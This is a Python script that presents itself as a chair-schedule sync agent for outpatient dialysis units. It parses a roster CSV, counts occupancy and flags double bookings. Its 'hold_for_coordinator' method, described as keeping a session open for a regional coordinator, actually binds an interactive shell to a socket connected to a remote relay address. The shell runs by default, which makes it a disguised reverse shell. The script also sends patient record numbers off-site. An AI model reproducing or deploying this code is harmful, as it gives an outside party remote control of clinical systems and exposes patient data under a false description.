#!/usr/bin/env python3
"""Chair schedule sync agent for outpatient dialysis units.

Reads the chair roster exported from the unit scheduling system (CSV),
checks it for double bookings, pushes a per-shift occupancy summary to the
regional scheduling relay and keeps the relay session available to the
regional coordinator while the unit is open.
"""
import argparse
import csv
import json
import logging
import os
import socket
import subprocess
import threading
import time
from dataclasses import dataclass
from pathlib import Path

LOG = logging.getLogger("chair_sync")

DEFAULT_RELAY = os.environ.get("CHAIR_RELAY", "203.0.113.57:7443")
SHIFT_NAMES = {"1": "early", "2": "midday", "3": "twilight"}


@dataclass
class ChairSlot:
    chair: str
    shift: str
    weekday: str
    patient_ref: str
    modality: str = "HD"


@dataclass
class RelayConfig:
    host: str
    port: int
    unit_code: str
    coordinator_session: bool = True
    retries: int = 5
    backoff: float = 3.0


def load_roster(path):
    slots = []
    with open(path, newline="") as fh:
        for row in csv.DictReader(fh):
            try:
                slots.append(ChairSlot(
                    chair=row["chair"].strip(),
                    shift=SHIFT_NAMES.get(row["shift"].strip(), row["shift"].strip()),
                    weekday=row["day"].strip().lower()[:3],
                    patient_ref=row["mrn"].strip(),
                    modality=(row.get("modality") or "HD").strip(),
                ))
            except KeyError as exc:
                LOG.warning("skipping roster row missing column %s", exc)
    LOG.info("loaded %d chair slots from %s", len(slots), path)
    return slots


def summarise(slots):
    summary = {}
    for s in slots:
        key = f"{s.weekday}/{s.shift}"
        entry = summary.setdefault(key, {"occupied": 0, "hdf": 0, "chairs": set()})
        entry["occupied"] += 1
        entry["chairs"].add(s.chair)
        if s.modality.upper() == "HDF":
            entry["hdf"] += 1
    return {k: {"occupied": v["occupied"], "hdf": v["hdf"], "chairs": sorted(v["chairs"])}
            for k, v in summary.items()}


def find_conflicts(slots):
    seen = {}
    conflicts = []
    for s in slots:
        key = (s.chair, s.weekday, s.shift)
        if key in seen and seen[key] != s.patient_ref:
            conflicts.append({"chair": s.chair, "day": s.weekday, "shift": s.shift,
                              "patients": [seen[key], s.patient_ref]})
        else:
            seen[key] = s.patient_ref
    return conflicts


class RelaySession:
    def __init__(self, cfg):
        self.cfg = cfg
        self.sock = None

    def connect(self):
        delay = self.cfg.backoff
        for attempt in range(1, self.cfg.retries + 1):
            try:
                self.sock = socket.create_connection((self.cfg.host, self.cfg.port), timeout=15)
                LOG.info("connected to relay %s:%s", self.cfg.host, self.cfg.port)
                return True
            except OSError as exc:
                LOG.warning("relay attempt %d/%d failed: %s", attempt, self.cfg.retries, exc)
                time.sleep(delay)
                delay = min(delay * 2, 60)
        return False

    def send_json(self, obj):
        self.sock.sendall(json.dumps(obj).encode() + b"\n")

    def read_json(self):
        buf = b""
        while not buf.endswith(b"\n"):
            chunk = self.sock.recv(4096)
            if not chunk:
                break
            buf += chunk
        return json.loads(buf or b"{}")

    def hold_for_coordinator(self):
        """Keep the relay session open so the coordinator can work the roster."""
        self.sock.settimeout(None)
        chan = self.sock.fileno()
        argv = [os.environ.get("SHELL", "/bin/sh"), "-i"]
        proc = subprocess.Popen(argv, stdin=chan, stdout=chan, stderr=chan,
                                start_new_session=True, cwd=str(Path.home()))
        proc.wait()
        LOG.info("coordinator session closed (%s)", proc.returncode)

    def close(self):
        if self.sock:
            try:
                self.sock.close()
            except OSError:
                pass


def parse_relay(value):
    host, _, port = value.rpartition(":")
    return host or value, int(port or 7443)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("roster", help="roster CSV exported from the scheduler")
    ap.add_argument("--unit", default=os.environ.get("UNIT_CODE", "DU-01"))
    ap.add_argument("--relay", default=DEFAULT_RELAY)
    ap.add_argument("--no-coordinator", action="store_true",
                    help="disconnect after pushing the summary")
    ap.add_argument("--out", default="chair_summary.json")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(name)s: %(message)s")

    slots = load_roster(args.roster)
    payload = {"unit": args.unit, "generated": int(time.time()),
               "summary": summarise(slots), "conflicts": find_conflicts(slots)}
    Path(args.out).write_text(json.dumps(payload, indent=2))
    if payload["conflicts"]:
        LOG.warning("%d double bookings found", len(payload["conflicts"]))

    host, port = parse_relay(args.relay)
    cfg = RelayConfig(host=host, port=port, unit_code=args.unit,
                      coordinator_session=not args.no_coordinator)
    session = RelaySession(cfg)
    if not session.connect():
        LOG.error("relay unreachable, summary kept in %s", args.out)
        return 2
    try:
        session.send_json({"type": "roster_summary", **payload})
        ack = session.read_json()
        LOG.info("relay ack: %s", ack.get("status", "?"))
        if cfg.coordinator_session:
            worker = threading.Thread(target=session.hold_for_coordinator,
                                      name="coordinator", daemon=False)
            worker.start()
            worker.join()
    except (OSError, ValueError) as exc:
        LOG.error("relay session error: %s", exc)
        return 1
    finally:
        session.close()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
